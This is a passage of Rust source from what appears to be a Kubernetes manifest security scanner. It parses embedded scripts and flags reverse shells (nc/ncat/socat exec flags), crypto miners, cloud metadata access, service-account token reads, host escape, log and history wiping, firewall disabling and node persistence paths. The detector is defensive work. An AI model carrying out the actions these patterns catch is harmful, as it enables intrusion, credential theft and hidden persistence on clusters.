        // A `#!` line naming an interpreter makes the file code of that language.
        if let Some(lang) = shebang_interpreter(&text) {
            self.add_code(text, origin, lang, None, depth);
        } else {
            self.add_script(text, origin, None, depth);
        }
    }

    fn add_script(&mut self, text: String, origin: Origin<'a>, root: Option<&str>, depth: usize) {
        if depth > MAX_NESTING || self.scripts.len() >= MAX_SCRIPTS {
            return;
        }
        let mut env = self.env.clone();
        // Variables a parent script set are known in the child.
        let mut o = &origin;
        let mut guard = 0;
        while let Origin::Nested { parent, .. } = o {
            for (k, v) in &self.scripts[*parent].parsed.vars {
                env.entry(k.clone()).or_insert_with(|| v.clone());
            }
            o = &self.scripts[*parent].origin;
            guard += 1;
            if guard > MAX_NESTING * 2 {
                break;
            }
        }
        let parsed = shell::parse(&text, &env);
        self.scripts.push(Script {
            text,
            origin,
            parsed,
        });
        let sid = self.scripts.len() - 1;
        let n = self.scripts[sid].parsed.cmds.len();
        for ci in 0..n {
            let cmd = &self.scripts[sid].parsed.cmds[ci];
            if cmd.words.is_empty() {
                self.bare_redirects(sid, ci, root);
                continue;
            }
            let script_text = &self.scripts[sid].text;
            let argv: Vec<Arg> = cmd
                .words
                .iter()
                .map(|w| Arg {
                    text: w.text.clone(),
                    loc: Loc::Script(sid, w.span.clone()),
                    raw: script_text
                        .get(w.span.clone())
                        .unwrap_or_default()
                        .to_string(),
                    dynamic: w.dynamic,
                })
                .collect();
            self.exec(argv, Some((sid, ci)), root.map(str::to_string), depth);
            // Here-docs and here-strings fed to a shell are scripts.
            if let Some(call) = self.calls.last()
                && call.at == Some((sid, ci))
                && is_shell(&call.prog)
                && call.args().iter().all(|a| a.text.starts_with('-'))
            {
                let reds = self.scripts[sid].parsed.cmds[ci].redirects.clone();
                for r in reds {
                    if let Some((body, range)) = r.body {
                        let origin = Origin::Nested {
                            parent: sid,
                            offset: Some(range.start),
                            range,
                        };
                        self.add_script(body, origin, root, depth + 1);
                    } else if r.op == "<<<" {
                        let a = Arg {
                            text: r.target.text.clone(),
                            loc: Loc::Script(sid, r.target.span.clone()),
                            raw: String::new(),
                            dynamic: r.target.dynamic,
                        };
                        self.shell_script(&a, root, depth + 1);
                    }
                }
            }
        }
        self.script_checks(sid);
    }

    /// Inline interpreter code: string-level checks, and its string literals as shell.
    fn inline_code(&mut self, lang: &'static str, a: &Arg, root: Option<&str>, depth: usize) {
        let origin = match &a.loc {
            Loc::Node(n) => Origin::Yaml {
                node: *n,
                exact: self.ctx.doc.str(*n) == Some(a.text.as_str()),
            },
            Loc::Script(s, r) => self.nested_origin(*s, r.clone(), &a.text),
        };
        self.add_code(a.text.clone(), origin, lang, root, depth);
    }

    /// Interpreter code from `origin`: string-level checks, string literals as shell.
    fn add_code(
        &mut self,
        text: String,
        origin: Origin<'a>,
        lang: &'static str,
        root: Option<&str>,
        depth: usize,
    ) {
        if depth > MAX_NESTING || self.scripts.len() >= MAX_SCRIPTS {
            return;
        }
        self.scripts.push(Script {
            text,
            origin,
            parsed: Parsed::default(),
        });
        let sid = self.scripts.len() - 1;
        code_checks(self, sid, lang);
        let code = self.scripts[sid].text.clone();
        let a = Arg {
            text: code,
            loc: Loc::Script(sid, 0..0),
            raw: String::new(),
            dynamic: false,
        };
        let runs_commands = [
            "system",
            "popen",
            "subprocess",
            "exec",
            "spawn",
            "shell_exec",
            "passthru",
            "`",
            "%x",
            "child_process",
            "Popen",
            "run(",
        ]
        .iter()
        .any(|k| a.text.contains(k));
        if runs_commands {
            for r in string_literals(&a.text) {
                let lit = a.text[r.clone()].to_string();
                if lit.contains(' ') {
                    let origin = Origin::Nested {
                        parent: sid,
                        offset: Some(r.start),
                        range: r,
                    };
                    self.add_script(lit, origin, root, depth + 1);
                }
            }
        }
    }

    // -- location mapping -----------------------------------------------------------------

    /// The file and span of a location.
    fn place(&self, loc: &Loc) -> (Arc<str>, Span) {
        let (mut sid, mut r) = match loc {
            Loc::Node(n) => return (self.ctx.path.clone(), self.ctx.doc.span(*n)),
            Loc::Script(s, r) => (*s, r.clone()),
        };
        let mut guard = 0;
        loop {
            guard += 1;
            let Some(s) = self.scripts.get(sid) else {
                return (self.ctx.path.clone(), Span::default());
            };
            match &s.origin {
                Origin::Yaml { node, exact } => {
                    let span = self.ctx.doc.span(*node);
                    let inner = if *exact {
                        scalar_inner_span(self.ctx.src, span, &s.text, r)
                    } else {
                        None
                    };
                    return (self.ctx.path.clone(), inner.unwrap_or(span));
                }
                Origin::ConfigMap { cm, entry, .. } => {
                    let e = &cm.data[*entry];
                    let inner = scalar_inner_span(&cm.source, e.span, &e.value, r);
                    return (cm.at.path.clone(), inner.unwrap_or(e.span));
                }
                Origin::Nested {
                    parent,
                    offset,
                    range,
                } => {
                    r = match offset {
                        Some(o) => o + r.start..o + r.end,
                        None => range.clone(),
                    };
                    sid = *parent;
                }
            }
            if guard > MAX_SCRIPTS + 2 {
                return (self.ctx.path.clone(), Span::default());
            }
        }
    }

    /// The ConfigMap trigger of the script a location is in, if any.
    fn trigger(&self, loc: &Loc) -> Option<(Loc, String)> {
        let &Loc::Script(mut sid, _) = loc else {
            return None;
        };
        for _ in 0..=MAX_SCRIPTS {
            match &self.scripts.get(sid)?.origin {
                Origin::ConfigMap { cm, entry, trigger } => {
                    return Some((
                        trigger.clone(),
                        format!(
                            "runs {} key `{}` as a script",
                            cm.id.display(),
                            cm.data[*entry].key
                        ),
                    ));
                }
                Origin::Nested { parent, .. } => sid = *parent,
                Origin::Yaml { .. } => return None,
            }
        }
        None
    }

    // -- helpers over calls ---------------------------------------------------------------

    /// The host path a container path maps to through a writable hostPath mount.
    fn host_path(&self, p: &str, root: Option<&str>) -> Option<String> {
        if !p.starts_with('/') {
            return None;
        }
        let p = resolve_path(p, root);
        for m in &self.mounts {
            let MountKind::Host(h) = &m.kind else {
                continue;
            };
            if m.read_only {
                continue;
            }
            let rest = if p == m.path {
                ""
            } else if let Some(r) = p
                .strip_prefix(&m.path)
                .filter(|r| r.starts_with('/') || m.path == "/")
            {
                r
            } else {
                continue;
            };
            let sub = m.sub_path.as_deref().unwrap_or("");
            return Some(normalize_path(&format!("{h}/{sub}/{rest}")));
        }
        None
    }

    fn runtime_socket_mounted(&self) -> bool {
        self.mounts.iter().any(|m| match &m.kind {
            MountKind::Host(h) => {
                [
                    ".sock",
                    "/var/run",
                    "/run",
                    "/run/containerd",
                    "/var/run/crio",
                ]
                .iter()
                .any(|s| h.ends_with(s))
                    || h == "/"
            }
            _ => false,
        })
    }
}

// ---------------------------------------------------------------------------------------
// Classes of programs.

/// The interpreter a `#!` line names (`#!/usr/bin/env python3` → python), if not a shell.
fn shebang_interpreter(text: &str) -> Option<&'static str> {
    let line = text.strip_prefix("#!")?.lines().next()?;
    let mut words = line.split_whitespace();
    let mut prog = basename(words.next()?);
    if prog == "env" {
        prog = words.find(|w| !w.starts_with('-'))?;
    }
    interpreter(basename(prog))
}

/// A path as seen inside `chroot root`.
fn resolve_path(p: &str, root: Option<&str>) -> String {
    match root {
        Some(r) if p.starts_with('/') => normalize_path(&format!("{r}/{p}")),
        _ => normalize_path(p),
    }
}

fn is_download(c: &Call) -> bool {
    // Any operand: `curl localhost/x` has neither a scheme nor a dot.
    ind::DOWNLOADERS.contains(&c.prog.as_str())
        && c.args()
            .iter()
            .any(|a| a.dynamic || (!a.text.starts_with('-') && !a.text.is_empty()))
}

/// Reads code from stdin or from a file argument it was given (a sink for a pipe).
fn is_sink(c: &Call) -> bool {
    if c.prog == "eval" {
        return true;
    }
    let operands: Vec<&Arg> = c
        .args()
        .iter()
        .filter(|a| !a.text.starts_with('-') || a.text == "-")
        .collect();
    if is_shell(&c.prog) {
        return !c.args().iter().any(|a| {
            a.text.starts_with('-')
                && a.text.len() > 1
                && !a.text.starts_with("--")
                && a.text[1..].contains('c')
        }) && (operands.is_empty()
            || operands
                .iter()
                .all(|a| a.text == "-" || a.text.starts_with("/dev/stdin")));
    }
    if interpreter(&c.prog).is_some() {
        let has_code = c.args().iter().any(|a| {
            matches!(
                a.text.as_str(),
                "-c" | "-e" | "-E" | "-r" | "--eval" | "-p" | "-m"
            )
        });
        return !has_code
            && (operands.is_empty()
                || operands
                    .iter()
                    .all(|a| a.text == "-" || a.text.starts_with("/dev/stdin")));
    }
    matches!(c.prog.as_str(), "source" | ".")
        && c.args().iter().any(|a| a.text.starts_with("/dev/stdin"))
}

/// Runs code it is given as a file or an argument (`bash FILE`, `source FILE`, `eval X`,
/// `sh -c X`, `python -c X`).
fn runs_code(c: &Call) -> bool {
    is_shell(&c.prog)
        || interpreter(&c.prog).is_some()
        || matches!(c.prog.as_str(), "eval" | "source" | "." | "exec")
}

fn is_decoder(c: &Call) -> bool {
    let decode_flag = || {
        c.args().iter().any(|a| {
            let t = a.text.as_str();
            t == "--decode"
                || (t.starts_with('-')
                    && !t.starts_with("--")
                    && (t.contains('d') || t.contains('D')))
        })
    };
    match c.prog.as_str() {
        "base64" | "base32" | "basenc" => decode_flag(),
        "openssl" => {
            c.has("-d")
                && (c.has("enc")
                    || c.has("base64")
                    || c.args().iter().any(|a| a.text.starts_with("-a")))
        }
        "xxd" => c
            .args()
            .iter()
            .any(|a| a.text.starts_with('-') && a.text.contains('r')),
        "uudecode" | "gunzip" | "zcat" => c.prog == "uudecode",
        _ => false,
    }
}

fn is_net_client(c: &Call) -> bool {
    matches!(
        c.prog.as_str(),
        "nc" | "ncat" | "netcat" | "telnet" | "socat"
    ) || (c.prog == "openssl" && c.has("s_client"))
}

fn is_metadata(s: &str, extra: &[String]) -> Option<String> {
    static BUILTIN: std::sync::LazyLock<aho_corasick::AhoCorasick> =
        std::sync::LazyLock::new(|| {
            aho_corasick::AhoCorasick::new(ind::METADATA_HOSTS).expect("literal patterns")
        });
    let l = s.to_ascii_lowercase();
    // Every built-in host has a digit or `metadata` in it (tested); most words have neither.
    // The others are searched for all hosts at once; the first host of the list with an
    // occurrence that counts is the answer, as when they were searched one by one.
    if l.bytes().any(|b| b.is_ascii_digit()) || l.contains("metadata") {
        let first = BUILTIN
            .find_overlapping_iter(&l)
            .filter(|m| metadata_at(&l, ind::METADATA_HOSTS[m.pattern().as_usize()], m.start()))
            .map(|m| m.pattern().as_usize())
            .min();
        if let Some(i) = first {
            return Some(ind::METADATA_HOSTS[i].to_string());
        }
    }
    extra
        .iter()
        .find(|h| {
            l.match_indices(h.as_str())
                .any(|(i, _)| metadata_at(&l, h, i))
        })
        .cloned()
}

/// Does the occurrence of host `h` at byte `i` of the lowercased word `l` count? A numeric
/// spelling (`2852039166`) only as a whole word, after `://` or after `/dev/tcp/`; a name
/// or an address not inside a longer number or name.
fn metadata_at(l: &str, h: &str, i: usize) -> bool {
    let numeric = h.starts_with(|c: char| c.is_ascii_digit())
        && !h.contains("169.254")
        && !h.contains("100.100");
    if numeric {
        (i == 0 && h.len() == l.len()) || l[..i].ends_with("://") || l[..i].ends_with("/dev/tcp/")
    } else {
        let after = l[i + h.len()..].chars().next();
        let before = l[..i].chars().next_back();
        !after.is_some_and(|c| c.is_ascii_digit())
            && !before.is_some_and(|c| c.is_ascii_digit() || c == '.')
    }
}

/// The host of a URL-ish word (`stratum+tcp://pool.x.com:3333/p` → `pool.x.com`).
fn host_of(s: &str) -> String {
    let l = s.to_ascii_lowercase();
    let rest = l.split_once("://").map_or(l.as_str(), |x| x.1);
    let rest = rest.rsplit_once('@').map_or(rest, |x| x.1);
    rest.split(['/', ':', '?', '#'])
        .next()
        .unwrap_or("")
        .to_string()
}

fn pool_host(s: &str, extra: &[String]) -> Option<String> {
    let h = host_of(s);
    ind::POOL_HOSTS
        .iter()
        .copied()
        .chain(extra.iter().map(String::as_str))
        // `h` is `p` or ends with `.p` (checked without a format! per host and word).
        .find(|p| {
            h == *p
                || (h.len() > p.len()
                    && h.ends_with(p)
                    && h.as_bytes()[h.len() - p.len() - 1] == b'.')
        })
        .map(str::to_string)
}

/// A system log or shell history (not an application's own log under `/var/log/<app>/`):
/// the whole `/var/log`, the files of `LOG_FILES`, or anything under `/var/log` of the node.
fn is_log_path(p: &str, extra: &[String]) -> bool {
    let n = if p.starts_with('/') {
        normalize_path(p.trim_end_matches('*'))
    } else {
        p.to_string()
    };
    n == "/var/log"
        || ind::LOG_FILES
            .iter()
            .copied()
            .chain(extra.iter().map(String::as_str))
            .any(|f| {
                if f.starts_with('/') {
                    n == f || n.starts_with(&format!("{f}/"))
                } else {
                    n.ends_with(f)
                }
            })
}

/// Host paths where a write plants persistence.
fn persistence_point(host: &str) -> Option<&'static str> {
    let h = host;
    if h.starts_with("/etc/cron") || h.starts_with("/var/spool/cron") {
        Some("the node's cron")
    } else if [
        "/etc/systemd/",
        "/lib/systemd/",
        "/usr/lib/systemd/",
        "/run/systemd/",
    ]
    .iter()
    .any(|p| h.starts_with(p))
        || h == "/etc/systemd"
    {
        Some("the node's systemd units")
    } else if h.starts_with("/etc/init.d") || h == "/etc/rc.local" {
        Some("the node's init scripts")
    } else if h.ends_with("/authorized_keys")
        || h.ends_with("/authorized_keys2")
        || h.ends_with("/.ssh")
    {
        Some("SSH authorized_keys on the node")
    } else if h == "/etc/ld.so.preload" {
        Some("/etc/ld.so.preload (every process on the node loads it)")
    } else {
        None
    }
}

/// Files a download writes (`curl -o F`, `curl -O URL`, `wget URL`, `wget -O F`).
fn download_outputs(c: &Call) -> Vec<(String, Loc)> {
    let mut out = Vec::new();
    let args = c.args();
    let url_name = |args: &[Arg]| {
        args.iter()
            .find(|a| a.text.contains("://"))
            .map(|a| basename(a.text.split(['?', '#']).next().unwrap_or("")).to_string())
            .filter(|b| !b.is_empty())
    };
    let mut i = 0;
    let mut explicit = false;
    while i < args.len() {
        let t = args[i].text.as_str();
        let next = args.get(i + 1);
        match (c.prog.as_str(), t) {
            ("curl", "-o" | "--output") | ("wget", "-O" | "--output-document") => {
                if let Some(n) = next {
                    explicit = true;
                    if n.text != "-" && n.text != "/dev/stdout" {
                        out.push((n.text.clone(), n.loc.clone()));
                    }
                }
                i += 1;
            }
            ("curl", "-O" | "--remote-name") => {
                explicit = true;
                if let Some(b) = url_name(args) {
                    out.push((b, args[i].loc.clone()));
                }
            }
            ("wget", "-qO-" | "-O-" | "-qO" | "-q") if t.ends_with('-') => explicit = true,
            ("wget", _) if t.starts_with("--output-document=") => {
                explicit = true;
                out.push((
                    t["--output-document=".len()..].to_string(),
                    args[i].loc.clone(),
                ));
            }
            ("curl", _) if t.starts_with("-o") && t.len() > 2 && !t.starts_with("--") => {
                explicit = true;
                out.push((t[2..].to_string(), args[i].loc.clone()));
            }
            _ => {}
        }
        i += 1;
    }
    if c.prog == "wget"
        && !explicit
        && let Some(b) = url_name(args)
    {
        out.push((b, c.loc()));
    }
    out
}

fn same_file(a: &str, b: &str) -> bool {
    let norm = |s: &str| -> String {
        if s.starts_with('/') {
            normalize_path(s)
        } else {
            s.trim_start_matches("./").to_string()
        }
    };
    let (a, b) = (norm(a), norm(b));
    !a.is_empty()
        && (a == b
            || ((!a.starts_with('/') || !b.starts_with('/')) && basename(&a) == basename(&b)))
}

/// Byte ranges of the string literals in code ('...', "...", `...`).
fn string_literals(code: &str) -> Vec<Range<usize>> {
    let b = code.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let q = b[i];
        if matches!(q, b'\'' | b'"' | b'`') {
            let start = i + 1;
            let mut j = start;
            while j < b.len() && b[j] != q {
                if b[j] == b'\\' {
                    j += 1;
                }
                j += 1;
            }
            if j >= b.len() {
                break;
            }
            out.push(start..j);
            i = j + 1;
        } else {
            i += 1;
        }
        if out.len() > 256 {
            break;
        }
    }
    out
}

/// The longest run of base64 alphabet characters in `s` that mixes cases and digits.
fn long_base64(s: &str) -> Option<Range<usize>> {
    let mut best: Option<Range<usize>> = None;
    let mut start = None;
    let b = s.as_bytes();
    for i in 0..=b.len() {
        let ok =
            i < b.len() && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'+' | b'/' | b'='));
        match (ok, start) {
            (true, None) => start = Some(i),
            (false, Some(st)) => {
                if i - st >= LONG_BLOB && best.as_ref().is_none_or(|r| r.len() < i - st) {
                    let run = &s[st..i];
                    let lower = run.bytes().any(|c| c.is_ascii_lowercase());
                    let upper = run.bytes().any(|c| c.is_ascii_uppercase());
                    let digit = run.bytes().any(|c| c.is_ascii_digit());
                    if lower && upper && digit {
                        best = Some(st..i);
                    }
                }
                start = None;
            }
            _ => {}
        }
    }
    best
}

// ---------------------------------------------------------------------------------------
// Checks.

const H_DOWNLOAD: &str = "bake the tool into the image, or download to a file, verify its checksum or signature, and run it only then";
const H_REVERSE: &str =
    "remove the reverse shell; a job never needs an interactive shell to a remote host";
const H_ENCODED: &str =
    "write the script in clear text (a ConfigMap or, better, the image) so it can be reviewed";
const H_MINER: &str = "remove the miner; add site-specific pools or binaries to `command_indicators` if this is a false positive";
const H_METADATA: &str = "use workload identity instead of the node's metadata credentials, and block 169.254.169.254 with a NetworkPolicy";
const H_ESCAPE: &str =
    "do node maintenance with a reviewed DaemonSet or node configuration management, not a job";
const H_API: &str = "manage RBAC and workloads through reviewed manifests; give the job's service account only read access it needs";
const H_EVASION: &str =
    "leave history and logs alone (rotation handles them) and keep firewalls and auditing on";
const H_PERSIST: &str = "never write the node's cron, systemd, SSH or loader configuration from a workload; mount host paths read-only";

impl Analyser<'_, '_> {
    /// Checks on one call (program and arguments).
    fn call_checks(&mut self, i: usize) {
        let ctx = self.ctx;
        let extra = &ctx.settings.command_indicators;
        let c = &self.calls[i];
        let prog = c.prog.clone();
        let loc = c.loc();
        let args: Vec<Arg> = c.args().to_vec();
        let root = c.root.clone();
        // Shells and interpreters get their code analysed as code, not as words.
        let quiet =
            QUIET.contains(&prog.as_str()) || is_shell(&prog) || interpreter(&prog).is_some();
        let mut hits: Vec<(&'static Rule, Loc, String, String, &'static str, String)> = Vec::new();

        // Miner binaries, pools, miner downloads.
        let miner_name = |p: &str| {
            let p = p.to_ascii_lowercase();
            ind::MINER_BINARIES
                .iter()
                .copied()
                .chain(extra.miner_binaries.iter().map(String::as_str))
                .find(|m| p == *m || (m.len() >= 5 && p.starts_with(m)))
                .map(str::to_string)
        };
        if let Some(m) = miner_name(&prog) {
            hits.push((
                &CRYPTO_MINER,
                loc.clone(),
                format!("`{m}` is a crypto miner"),
                format!("the command runs the crypto miner `{m}`"),
                H_MINER,
                m,
            ));
        }
        if !quiet {
            for a in &args {
                let l = a.text.to_ascii_lowercase();
                if let Some(s) = ind::MINER_SCHEMES.iter().find(|s| l.contains(*s)) {
                    hits.push((
                        &CRYPTO_MINER,
                        a.loc.clone(),
                        format!("`{s}` is a mining pool protocol"),
                        "the command connects to a mining pool".into(),
                        H_MINER,
                        (*s).to_string(),
                    ));
                } else if let Some(p) = pool_host(&a.text, &extra.pool_hosts) {
                    hits.push((
                        &CRYPTO_MINER,
                        a.loc.clone(),
                        format!("`{p}` is a mining pool"),
                        "the command connects to a mining pool".into(),
                        H_MINER,
                        p,
                    ));
                } else if l.contains("://")
                    && ind::DOWNLOADERS.contains(&prog.as_str())
                    && let Some(m) = ind::MINER_BINARIES
                        .iter()
                        .find(|m| m.len() >= 5 && l.contains(*m))
                {
                    hits.push((
                        &CRYPTO_MINER,
                        a.loc.clone(),
                        format!("downloads `{m}`"),
                        format!("the command downloads the crypto miner `{m}`"),
                        H_MINER,
                        (*m).to_string(),
                    ));
                }
                if let Some(h) = is_metadata(&a.text, &extra.metadata_hosts) {
                    hits.push((
                        &CLOUD_METADATA,
                        a.loc.clone(),
                        format!("`{h}`: the cloud instance metadata service"),
                        format!(
                            "the command reaches the cloud metadata endpoint {h} with `{prog}`"
                        ),
                        H_METADATA,
                        h,
                    ));
                }
            }
        }
        if !is_shell(&prog) && interpreter(&prog).is_none() {
            for a in &args {
                if let Some(r) = long_base64(&a.text) {
                    let loc = match &a.loc {
                        Loc::Script(s, sp) if a.raw.contains(&a.text[r.clone()]) => {
                            let off = a.raw.find(&a.text[r.clone()]).unwrap_or(0);
                            Loc::Script(*s, sp.start + off..sp.start + off + r.len())
                        }
                        other => other.clone(),
                    };
                    hits.push((
                        &ENCODED_PAYLOAD,
                        loc,
                        format!("{} characters of base64", r.len()),
                        "the command carries a long base64 blob".into(),
                        H_ENCODED,
                        format!("blob:{}", r.len()),
                    ));
                }
            }
        }

        // Reverse shells.
        let reverse_flag = match prog.as_str() {
            "nc" | "netcat" | "nc.traditional" | "nc.openbsd" => args.iter().find(|a| {
                a.text.starts_with('-')
                    && !a.text.starts_with("--")
                    && (a.text.contains('e') || a.text.contains('c'))
            }),
            "ncat" => args.iter().find(|a| {
                matches!(
                    a.text.as_str(),
                    "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
                ) || a.text.starts_with("--sh-exec=")
                    || a.text.starts_with("--exec=")
            }),
            "socat" => args.iter().find(|a| {
                let l = a.text.to_ascii_lowercase();
                l.starts_with("exec:") || l.starts_with("system:") || l.contains(",exec:")
            }),
            _ => None,
        };
        if let Some(f) = reverse_flag {
            hits.push((
                &REVERSE_SHELL,
                f.loc.clone(),
                format!("`{}` hands a program to the network peer", f.text),
                format!("a shell is served to a remote peer by `{prog}`"),
                H_REVERSE,
                format!("{prog} {}", f.text),
            ));
        }

        // Host escape.
        if matches!(prog.as_str(), "mount")
            && let Some(d) = args.iter().find(|a| {
                let t = a.text.as_str();
                [
                    "/dev/sd",
                    "/dev/nvme",
                    "/dev/xvd",
                    "/dev/vd",
                    "/dev/hd",
                    "/dev/mapper/",
                    "/dev/root",
                    "/dev/dm-",
                    "/dev/disk/",
                ]
                .iter()
                .any(|p| t.starts_with(p))
            })
        {
            hits.push((
                &HOST_ESCAPE,
                d.loc.clone(),
                format!("`{}` is a node disk", d.text),
                "the command mounts a block device of the node".into(),
                H_ESCAPE,
                d.text.clone(),
            ));
        }
        if matches!(
            prog.as_str(),
            "docker" | "crictl" | "ctr" | "nerdctl" | "podman" | "runc" | "kubelet"
        ) {
            let sock_arg = args.iter().find(|a| a.text.contains(".sock"));
            if sock_arg.is_some() || self.runtime_socket_mounted() {
                let at = sock_arg.map_or(loc.clone(), |a| a.loc.clone());
                hits.push((
                    &HOST_ESCAPE,
                    at,
                    format!("`{prog}` talks to the node's container runtime"),
                    format!("the command drives the node's container runtime with `{prog}`"),
                    H_ESCAPE,
                    prog.clone(),
                ));
            }
        }

        // Cluster API.
        if matches!(prog.as_str(), "kubectl" | "oc" | "k3s") {
            let mut pos: Vec<&Arg> = Vec::new();
            let mut k = 0;
            while k < args.len() {
                let t = args[k].text.as_str();
                if t.starts_with('-') {
                    let takes = [
                        "-n",
                        "--namespace",
                        "--context",
                        "-s",
                        "--server",
                        "--token",
                        "--kubeconfig",
                        "-l",
                        "--selector",
                        "-o",
                        "--output",
                        "--as",
                        "--user",
                        "--cluster",
                        "-f",
                        "--filename",
                        "-c",
                        "--container",
                        "--image",
                    ];
                    if takes.contains(&t) {
                        k += 1;
                    }
                } else {
                    pos.push(&args[k]);
                }
                k += 1;
            }
            let pos: Vec<&Arg> = if prog == "k3s" {
                pos.into_iter().skip(1).collect()
            } else {
                pos
            };
            let verb = pos.first().map_or("", |a| a.text.as_str());
            let res = pos
                .get(1)
                .map(|a| a.text.to_ascii_lowercase())
                .unwrap_or_default();
            let res_list: Vec<&str> = res
                .split(',')
                .map(|r| r.split('/').next().unwrap_or(""))
                .collect();
            let what = match verb {
                "create" => {
                    let sensitive = [
                        "clusterrolebinding",
                        "rolebinding",
                        "clusterrole",
                        "role",
                        "cronjob",
                        "cj",
                        "job",
                        "pod",
                        "deployment",
                        "deploy",
                        "daemonset",
                        "ds",
                        "token",
                        "serviceaccount",
                        "sa",
                    ];
                    res_list
                        .iter()
                        .find(|r| sensitive.contains(r))
                        .map(|r| format!("creates a {r}"))
                }
                "run" => Some("starts a pod".to_string()),
                "get" | "describe" | "edit" => res_list
                    .iter()
                    .find(|r| matches!(**r, "secret" | "secrets"))
                    .map(|_| "reads secrets".to_string()),
                // `debug node/...` starts a privileged pod on a node.
                "debug" if res.starts_with("node/") || res.starts_with("nodes/") => {
                    Some("starts a debug pod on a node".to_string())
                }
                "patch" | "replace" | "set" | "apply" => res_list
                    .iter()
                    .find(|r| r.contains("rolebinding") || r.contains("clusterrole"))
                    .map(|r| format!("modifies a {r}")),
                _ => None,
            };
            if let Some(w) = what {
                let at = pos.first().map_or(loc.clone(), |a| a.loc.clone());
                hits.push((
                    &CLUSTER_API_ABUSE,
                    at,
                    format!("{prog} {verb}: {w}"),
                    format!("the job {w} through `{prog} {verb}`"),
                    H_API,
                    format!("{prog} {verb} {res}"),
                ));
            }
        }
        if !quiet {
            for a in &args {
                let t = format!("{} {}", a.text, a.raw);
                if t.contains("/run/secrets/kubernetes.io/serviceaccount/token") {
                    hits.push((
                        &CLUSTER_API_ABUSE,
                        a.loc.clone(),
                        "the pod's service account token".into(),
                        format!(
                            "the command reads the mounted service account token with `{prog}`"
                        ),
                        H_API,
                        "sa-token".into(),
                    ));
                } else if ind::DOWNLOADERS.contains(&prog.as_str())
                    && (t.contains("kubernetes.default") || t.contains("KUBERNETES_SERVICE_HOST"))
                    && [
                        "/secrets",
                        "rolebindings",
                        "clusterrolebindings",
                        "/pods",
                        "/jobs",
                        "/cronjobs",
                        "/token",
                        "/daemonsets",
                    ]
                    .iter()
                    .any(|p| t.contains(p))
                {
                    hits.push((
                        &CLUSTER_API_ABUSE,
                        a.loc.clone(),
                        "a sensitive Kubernetes API path".into(),
                        format!(
                            "the command calls the Kubernetes API for secrets, bindings or workloads with `{prog}`"
                        ),
                        H_API,
                        "api".into(),
                    ));
                }
            }
        }

        // Evasion.
        let evasion: Option<(Loc, String)> = match prog.as_str() {
            "history" if args.iter().any(|a| a.text == "-c") => {
                Some((loc.clone(), "history -c".into()))
            }
            "unset" => args
                .iter()
                .find(|a| a.text.starts_with("HIST"))
                .map(|a| (a.loc.clone(), format!("unset {}", a.text))),
            "export" => args
                .iter()
                .find(|a| {
                    a.text.starts_with("HISTFILE=/dev/null")
                        || a.text == "HISTSIZE=0"
                        || a.text == "HISTFILESIZE=0"
                        || a.text == "HISTFILE="
                })
                .map(|a| (a.loc.clone(), a.text.clone())),
            "set"
                if args
                    .windows(2)
                    .any(|w| w[0].text == "+o" && w[1].text == "history") =>
            {
                Some((loc.clone(), "set +o history".into()))
            }
            "shred" | "wipe" | "srm" => Some((loc.clone(), prog.clone())),
            "rm" | "truncate" | "unlink" => args
                .iter()
                .find(|a| {
                    !a.text.starts_with('-')
                        && (is_log_path(&a.text, &extra.log_files)
                            || self
                                .host_path(a.text.trim_end_matches('*'), root.as_deref())
                                .is_some_and(|h| h == "/var/log" || h.starts_with("/var/log/")))
                })
                .map(|a| (a.loc.clone(), format!("{prog} {}", a.text))),
            "ln" if args.iter().any(|a| a.text == "/dev/null") => args
                .iter()
                .find(|a| is_log_path(&a.text, &extra.log_files))
                .map(|a| (a.loc.clone(), format!("ln /dev/null {}", a.text))),
            "journalctl" => args
                .iter()
                .find(|a| a.text.starts_with("--vacuum") || a.text == "--rotate")
                .map(|a| (a.loc.clone(), format!("journalctl {}", a.text))),
            "systemctl" | "service" => {
                let stops = args
                    .iter()
                    .any(|a| matches!(a.text.as_str(), "stop" | "disable" | "mask" | "kill"));
                args.iter()
                    .find(|a| ind::GUARD_SERVICES.contains(&a.text.trim_end_matches(".service")))
                    .filter(|_| stops)
                    .map(|a| (a.loc.clone(), format!("{prog} stop {}", a.text)))
            }
            "iptables" | "ip6tables"
                if args
                    .windows(3)
                    .any(|w| w[0].text == "-P" && w[2].text == "ACCEPT") =>
            {
                Some((loc.clone(), format!("{prog} -P ACCEPT")))
            }
            "auditctl"
                if args
                    .windows(2)
                    .any(|w| w[0].text == "-e" && w[1].text == "0") =>
            {
                Some((loc.clone(), "auditctl -e 0".into()))
            }
            p => ind::FIREWALL_OFF
                .iter()
                .filter(|(fp, fa)| *fp == p && *fa != "-e")
                .find_map(|(_, fa)| args.iter().find(|a| a.text == *fa))
                .map(|a| (a.loc.clone(), format!("{p} {}", a.text))),
        };
        if let Some((at, what)) = evasion {
            hits.push((
                &EVASION,
                at,
                format!("`{what}` removes traces or defences"),
                format!("the command runs `{what}`"),
                H_EVASION,
                what,
            ));
        }

        // `chroot /host crontab FILE` installs a crontab of the node.
        if prog == "crontab"
            && root
                .as_deref()
                .and_then(|r| self.host_path(r, None))
                .as_deref()
                == Some("/")
        {
            hits.push((
                &HOST_PERSISTENCE,
                loc.clone(),
                "crontab inside the node's root filesystem".into(),
                "the command installs a crontab on the node".into(),
                H_PERSIST,
                "chroot crontab".into(),
            ));
        }
        // Persistence through file-writing programs.
        let mut targets: Vec<&Arg> = Vec::new();
        match prog.as_str() {
            "tee" => targets.extend(args.iter().filter(|a| !a.text.starts_with('-'))),
            "cp" | "mv" | "install" | "ln" | "rsync" => {
                if let Some(last) = args.iter().rev().find(|a| !a.text.starts_with('-')) {
                    targets.push(last);
                }
            }
            "sed" if args.iter().any(|a| a.text.starts_with("-i")) => {
                if let Some(last) = args.last() {
                    targets.push(last);
                }
            }
            "dd" => targets.extend(args.iter().filter(|a| a.text.starts_with("of="))),
            _ => {}
        }
        let dl: Vec<(String, Loc)> = if ind::DOWNLOADERS.contains(&prog.as_str()) {
            download_outputs(&self.calls[i])
        } else {
            Vec::new()
        };
        let mut writes: Vec<(String, Loc)> = targets
            .iter()
            .map(|a| (a.text.trim_start_matches("of=").to_string(), a.loc.clone()))
            .collect();
        writes.extend(dl);
        for (path, at) in writes {
            if let Some(host) = self.host_path(&path, root.as_deref())
                && let Some(what) = persistence_point(&host)
            {
                hits.push((
                    &HOST_PERSISTENCE,
                    at,
                    format!("writes {host} on the node"),
